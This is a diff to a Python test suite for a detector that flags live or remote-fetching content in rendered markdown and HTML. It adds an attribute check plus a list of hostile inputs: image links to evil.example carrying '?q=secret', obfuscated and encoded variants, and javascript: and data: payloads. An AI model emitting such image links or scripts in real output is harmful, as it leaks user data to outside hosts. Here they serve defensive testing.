@@ -46,6 +46,8 @@ class Live(HTMLParser):
             scheme = re.match(r"[a-z][a-z0-9+.-]*:", target)
             if name.startswith("on") or (name == "style" and "align" not in target):
                 self.found.append(f"<{tag} {name}>")
+            if name in {"src", "srcset", "poster", "background"} and target.startswith(("http", "//", "ftp")):
+                self.found.append(f"<{tag} {name}={target}> is fetched")
             if name in {"href", "src", "action", "data"} and scheme and scheme[0] not in {"http:", "https:", "mailto:"}:
                 self.found.append(f"<{tag} {name}={target}>")
 
@@ -81,7 +83,25 @@ def live(answer):
     return {name: found for name, render in RENDERERS.items() if (found := live_in(render(shown)))}
 
 
+REMOTE = [
+    "![a](http://evil.example/?q=secret) ![b](//evil.example/x.png) ![c]( <https://evil.example/x> )",
+    "![a][r] ![r] ![][r]\n\n[r]: http://evil.example/x.png",
+    "[![badge](http://evil.example/b.svg)](http://fine.example)",
+    "![a](\nhttp://evil.example/x.png\n'title')",
+    "![a ![b](http://evil.example/1)](http://evil.example/2)",
+    "![a\\](http://evil.example/x) ![a\\]](http://evil.example/x)",
+    "![a](http&#58;//evil.example/x) ![a](&#104;ttp://evil.example/x) ![a](ht\ntp://evil.example)",
+    "![a](\\\\evil.example\\share) ![a](/\\evil.example/x) ![a](http:\\\\evil.example)",
+    "| ![a](http://evil.example/x) | <img src=http://evil.example/y> |\n|---|---|\n| ![b](//evil.example/z) | x |",
+    "<picture><source srcset=//evil.example/x></picture> <video poster=//evil.example/x> <body background=//evil.example>",
+    "- ![a](http://evil.example/x)\n\n  > ![b](http://evil.example/y)",
+    "# ![a](http://evil.example/x)\n\n[^1]: ![b](http://evil.example/y)",
+    "`![a](http://evil.example/x)` ``![a](http://evil.example/x)`` \\![a](http://evil.example/x)",
+    "[![a](http://evil.example/x)",
+    "!\\[a](http://evil.example) !&#91;a](http://evil.example)",
+]
 HOSTILE = [
+    *REMOTE,
     SCRIPT,
     IMAGE,
     f"# {SCRIPT}\n\n> {IMAGE}\n\n- {IMAGE}\n\n| {IMAGE} |\n|---|\n| {SCRIPT} |",
@@ -192,6 +212,8 @@ PIECES = st.sampled_from([
     "[a]", "](", "]:", "(http://x)", "javascript:alert(1)", "http://x", "'", '"', "<!--", "-->", "<b>", "*", "~~", "_",
     "\\", "(", ")", "\\`", "&lt;", "<", "![", "\\$", "a|b", "|", "-|-", "foo", SCRIPT, IMAGE, " ", "  ", "    ", "\t", "\n",
     "\n\n", "\n- ", "\n1. ", "\n> ", "\n: ", "\r", "\u2028", "[x]: http://y",
+    "](javascript:alert(1))", "java&#115;cript:", "](data:text/html,x)", "![a](//x.y/z)", "[![", "][x]", "&#91;", "<javascript:x>",
+    "{=html}", '{onclick="x"}', ":::", "%", "---", "\\input{x}",
 ])
 PROSE = st.sampled_from([
     "foo", "a|b", "|a|b|", "-|-", "", "", "", "- foo", "1. foo", "2. foo", "> foo", "- - foo", "  - foo", "    foo", "$$",
